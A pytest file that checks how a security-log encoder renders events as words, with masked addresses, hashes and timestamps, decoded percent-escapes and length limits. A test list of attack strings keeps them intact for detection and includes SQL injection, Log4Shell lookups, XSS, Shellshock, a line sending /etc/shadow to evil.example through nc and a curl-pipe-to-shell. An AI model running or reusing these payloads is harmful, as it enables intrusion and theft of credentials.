"""What an encoder reads of an event: names in words, what never repeats by its kind, attacks as they were written."""

import hashlib
import re
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from models import masking
from models.contracts.release import WordingName
from models.masking import Masking
from models.wording import words_of
from tests.checks.growth import LONG, grows_with_its_length
from tests.checks.twins import PAIRS as MASKED_ALIKE
from tests.checks.twins import TWINS, UUID

STAMP = "2024-05-06T07:08:09.123Z"
SAMPLE = Path(__file__).parents[3] / "edge" / "sample.log"
CUT = 16_384  # characters of an event that are read
PARTED = re.compile(r"\w+|[^\w\s]")

RECORDS = [
    ('{"event": "login", "user": {"name": "root"}}', " event: login, user: name: root "),
    ('{"roles": ["admin", "ops"], "n": 3}', " roles: admin, ops, n: 3 "),
    ('{"a":1,"b":[1,2],"c":{"d":true}}', " a: 1, b: 1,2, c: d: true "),
    (r'{"raw": "{\"cmd\":\"id\",\"ok\":\"no\"}"}', " raw:  cmd: id, ok: no  "),
]
NAMES = [
    ("requireTwoFactorDisabled", "require Two Factor Disabled"),
    ("HTTPServerError", "HTTP Server Error"),
    ("user_account__locked", "user account locked"),
    ("__init__ _private", "__init__ _private"),
    ("sshd failed", "sshd failed"),
]
IDENTIFIERS = [
    (f"for {UUID} done", "for id done"),
    ("file " + "ab12" * 16, "file hash"),
    ("file " + "AB12" * 10, "file hash"),
    ("file " + "ab12" * 8, "file hash"),
    ("trace 4bf92f3577b34da6", "trace id"),
    ("token eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.x", "token id.x"),
    ("-e aGVsbG8taXMtaXQtbWUteW91cmUtbG9va2luZy1mb3==", "-e base64"),
    ("--b64=" + "aB3+" * 12, "--b64=base64"),
    ("deadbeef is a word", "deadbeef is a word"),
    ("account 123456789", "account id"),
    ("size 12345678", "size number"),
    ("port 8443", "port 8443"),
]
ADDRESSES = [
    ("from 10.0.0.1 to 8.8.8.8", "from private ip to public ip"),
    ("172.15.0.1 172.16.0.1 172.31.255.255 172.32.0.1", "public ip private ip private ip public ip"),
    ("192.168.1.1:443", "private ip:443"),
    ("curl 169.254.169.254/latest", "curl metadata ip/latest"),
    ("from 2001:db8::1 to ::1", "from ip to ip"),
    ("[fe80::1ff:fe23:4567:890a]:22", "[ip]:22"),
    ("std::vector at 12:34:56", "std::vector at 12:34:56"),
    ("169.254.0.7", "private ip"),
    ("127.0.0.53#53", "loopback ip#53"),
    ("0.0.0.0/0", "any ip/0"),
    ("from fe80:0:0:0:1:2:3:4 port 22", "from ip port 22"),
    ("2001:db8:1:2::1", "ip"),
    ("release 999.1.2.3", "release 999.1.2.3"),
    ("release 1.2.3", "release 1.2.3"),
    ("release 1.2.3.4.5", "release 1.2.3.4.5"),
    ("release v1.2.3.4", "release v1.2.3.4"),
]
ENCODED = [
    ("GET /%2e%2E/%2Fetc", "GET /..//etc"),
    ("%252e%252e%252f", "../"),
    ("%25252e", "."),
    ("q=%3Cscript%3E", "q=<script>"),
    ("%00%0d%C3", "   "),
    ("100% %zz", "100% %zz"),
]
STAMPS = [
    (f"{STAMP} sshd", "  sshd"),
    ("2024-05-06 07:08:09,123 +02:00 sshd", "  sshd"),
    ("on 2024-05-06 at", "on   at"),
    ("at 1714979289.123 down", "at   down"),
    ("at 1714979289123 down", "at   down"),
    ("2024-05-06T07:08:09", " "),
]
PAIRS = [
    ('{"accountId":"123456789012","user":"root"}', " , user: root "),
    (f'{{"user":"root","eventTime":"{STAMP}","x":null,"y":"","z":"ok"}}', " user: root   , z: ok "),
    (f'{{"user":"root","requestId":"{UUID}"}}', " user: root }"),
    ('{"user":"root","traceId":"4bf92f3577b34da6","n":1714979289}', " user: root   "),
    ('{"user":"null","port":22}', " user: null, port: 22 "),
]
# Words that `words-1` reads, and `words-2` does not; what both drop or name they say alike.
MASKED = [
    ("ftpd: connection from 203.0.113.9 () at Sat Jun 18 02:08:12 2005", "ftpd: connection from public ip () at  "),
    ("pid 77 of child 1234 took 345ms, 12 bytes, 3.234567 since 12:34:56",
     "pid number of child number took 100ms, 10 bytes, 1 since  "),
    ("closed by 10.0.0.9. at 0x7fdcc9d16380 on 0c:68:03:d6:c5:1c", "closed by private ip. at id on id"),
    ("fe80::1 2001:db8::1 ::1 [ff02::1]", "private ip public ip loopback ip [public ip "),
    ("audit(1714979289.123:4567): pid=1", "audit( ): pid=1"),
    (f'{{"requestId":"{UUID}","user":"root","pid":4321,"at":1714979289}}', " , user: root, pid: number  "),
    ("metadata from 169.254.169.254 on port 22", "metadata from metadata ip on port 22"),
    ("id " + "ab12" * 16 + " 9f86d081884c7d65 1714979289123", "id hash id  "),
]  # fmt: skip
WORDINGS: tuple[WordingName, ...] = ("words-1", "words-2")
LINES_AND_SPACE = [("----------", "-"), ("=====####", "=#"), ("a--b", "a--b"), ("a \t\r\n b", "a b"), ("", "")]

PAYLOADS = [
    "id=1' UNION SELECT username, password FROM users--",
    "1' OR '1'='1",
    "admin'/*",
    "'; DROP TABLE users; --",
    "../../../../etc/passwd",
    r"..\..\windows\win.ini",
    "${jndi:ldap://evil.example/a",
    "${${lower:j}ndi:rmi://evil.example",
    "{{7*7",
    "<%= 7*7 %>",
    "#{7*7}x",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>',
    "() { :; }; /bin/bash -c 'id'",
    "; cat /etc/shadow | nc evil.example 4444",
    "$(curl evil.example|sh) `id`",
]

# Parts that kinds are told by, so that a drawn event is made of their beginnings and ends.
PARTS = st.sampled_from([
    '"', '\\"', "{", "}", "[", "]", ",", ":", '":', '{"a":', "null", " ", "\n", "\\", "_", "a", "aB", "Bc", "id_x",
    "7", "12345", "123456", "1714979289", "123456789012", "4bf92f3577b34da6", UUID, STAMP, "10.0.0.1", "11.22.33.4",
    "999.1.2.3", "fe80:0:0:0:1", "%", "%2e", "%252e", "----", "=", "</a>", "<a>", "é", "\u2603", "\ud800", "\x00", "٣",
])  # fmt: skip
EVENTS = st.one_of(st.lists(PARTS, max_size=24).map("".join), st.text(max_size=60))

# One after the other, or behind a beginning.
HOSTILE_UNITS = [
    '"', "'", "{", "[", "}", "]", "}]", "[{", "\\", '\\"', " ", "\n", '" ', "{ ", "} ", ", ", ",", ":", "=", "<", "</",
    "7", "123456789 ", "af0", "deadbeef", "aB3", "aB", "_", "a_", "é", "%", "%25", "%2", "a.a.a.", "1.2.3.", "0:0:0:",
    "----", "-=", '{"', '"}', 'a"', '"a":', '"a":"', '"a":"b",', '"a":null,', "a]", "1714979289.", "2024-05-06 ",
]  # fmt: skip
MANY = LONG // 8
HOSTILE_BEGINNINGS = [
    ("}" * MANY, " "), ("{" * MANY, " "), ("[" * MANY, "\\"), (" " * MANY, ","), ("]" * MANY + "x", "}"),
    ("{" * MANY + '"a":"', "w"), ('"', " "), ('"a"', " "), (",", " "), ("a", "]"), ("a", "}"), ("a_", "_"),
    ('"a":"', "w"), ('"a":"', "1"), ('"a": 1714979289.', "1"), ("2024-05-06 07:08:09.", "1"), ("</", "a"), ("%", "25"),
    ("%", "2525zz"), ("aB3", "a"), ("-", "aB3+/"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("event", "words"),
    [*RECORDS, *NAMES, *IDENTIFIERS, *ADDRESSES, *ENCODED, *STAMPS, *PAIRS, *LINES_AND_SPACE],
)
def test_an_event_reads_in_words_as(event: str, words: str) -> None:
    assert words_of(event, "words-1").text == words


@pytest.mark.parametrize(("event", "words"), MASKED)
def test_of_what_the_verdict_cache_masks_the_later_wording_says_the_kind(event: str, words: str) -> None:
    assert words_of(event, "words-2").text == words


@pytest.mark.parametrize("wording", WORDINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_an_attacker_wrote_stays_as_it_is(payload: str, wording: WordingName) -> None:
    assert words_of(payload, wording).text == payload
    assert payload.replace('"', "") in words_of(f'{{"query": "{payload}", "user": "root"}}', wording).text


@pytest.mark.parametrize("wording", WORDINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_an_attacker_wrote_in_percents_is_undone_however_often_it_was_done(
    payload: str, wording: WordingName
) -> None:
    once = "".join(char if char.isalnum() else f"%{ord(char):02x}" for char in payload)
    twice = once.replace("%", "%25")

    # As a tokeniser parts them, to which one space is as good as two.
    assert PARTED.findall(words_of(once, wording).text) == PARTED.findall(payload)
    assert PARTED.findall(words_of(twice, wording).text) == PARTED.findall(payload)


def test_of_an_event_the_marks_of_structure_say_least() -> None:
    event = f'{{"eventTime": "{STAMP}", "eventName": "ConsoleLogin", "recipientAccountId": "123456789012"}}'

    assert words_of(event, "words-1").text == words_of(event, "words-2").text == " , event Name: Console Login }"


@pytest.mark.parametrize(("wording", "digest"), [("words-1", "a2732d00ae20ccea"), ("words-2", "599cf74b29c105b4")])
def test_an_event_has_the_words_that_releases_of_this_wording_were_trained_on(
    wording: WordingName, digest: str
) -> None:
    """Other rules, of words or of masks, are another wording: a release keeps reading by its own."""
    words = "\n".join(words_of(event, wording).text for event in SAMPLE.read_text().splitlines())

    assert hashlib.sha256(words.encode()).hexdigest()[:16] == digest


def test_no_wording_is_the_event_as_it_is() -> None:
    words = words_of(f"{STAMP} %2e", "")

    assert words.text == f"{STAMP} %2e"
    assert words.end == len(words.text)
    assert words.origins()[-1] == (words.end - 1, words.end)


@given(TWINS)
def test_two_events_with_one_key_have_the_same_words(twins: tuple[str, str]) -> None:
    one, other = (Masking().mask(event) for event in twins)
    assume(one and other and one.key == other.key)

    mine, theirs = (words_of(event, "words-2") for event in twins)
    assert mine.text == theirs.text


@pytest.mark.parametrize(("one", "other"), MASKED_ALIKE)
def test_words_that_are_masked_alike_are_written_alike(one: str, other: str) -> None:
    assert words_of(f"a {one} b", "words-2").text == words_of(f"a {other} b", "words-2").text


@pytest.mark.parametrize("wording", WORDINGS)
@given(event=EVENTS)
def test_pieces_cover_an_event_in_order_without_a_gap_or_an_overlap(event: str, wording: WordingName) -> None:
    words = words_of(event, wording)
    ends = [0, *(end for _, _, end in words.pieces)]

    assert [begin for _, begin, _ in words.pieces] == ends[:-1]
    assert ends == sorted(ends)
    assert ends[-1] == words.end == len(event)
    assert "".join(written for written, _, _ in words.pieces) == words.text


@pytest.mark.parametrize("wording", WORDINGS)
@given(event=EVENTS)
def test_every_character_of_the_words_stands_for_a_stretch_of_the_event_and_none_for_an_earlier_one(
    event: str, wording: WordingName
) -> None:
    words = words_of(event, wording)
    spans = words.origins()

    assert len(spans) == len(words.text)
    assert all(0 <= begin <= end <= len(event) for begin, end in spans)
    assert spans == sorted(spans)
    assert [end for _, end in spans] == sorted(end for _, end in spans)


@pytest.mark.parametrize("wording", WORDINGS)
def test_a_word_that_stays_stands_for_itself_and_a_kind_for_all_that_it_names(wording: WordingName) -> None:
    event = f"{STAMP} userName root from 10.0.0.200"
    words = words_of(event, wording)
    spans = words.origins()

    def origin(word: str) -> str:
        begin = words.text.index(word)
        return event[spans[begin][0] : spans[begin + len(word) - 1][1]]

    assert words.text == "  user Name root from private ip"
    assert [origin(word) for word in ("user", "Name", "root", "private ip")] == ["user", "Name", "root", "10.0.0.200"]


@pytest.mark.parametrize("event", ["x " * CUT, "{" * CUT + "x", " " * CUT + "attack", '"a":null,' * CUT])
def test_of_an_event_that_is_too_long_the_words_say_how_far_they_reach(event: str) -> None:
    words = words_of(event, "words-2")

    assert words.end == CUT
    assert words == words_of(event[:CUT], "words-2")


@pytest.mark.parametrize(("begin", "unit"), [*(("", unit) for unit in HOSTILE_UNITS), *HOSTILE_BEGINNINGS])
def test_a_hostile_event_is_read_in_time_by_its_length(begin: str, unit: str) -> None:
    assert grows_with_its_length(lambda event: words_of(event, "words-1"), begin, unit)


@pytest.mark.parametrize("unit", ["10.0.0.1 ", '"10.0.0.1",', "pid 77 ", "345ms ", f'"a":"{UUID}",', "12:34:56 aB"])
def test_an_event_of_masks_is_read_in_time_by_its_length(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(masking, "LONGEST_TEXT", LONG)
    monkeypatch.setattr(masking, "_MOST_MASKS", LONG)

    assert grows_with_its_length(lambda event: words_of(event, "words-2"), "", unit)
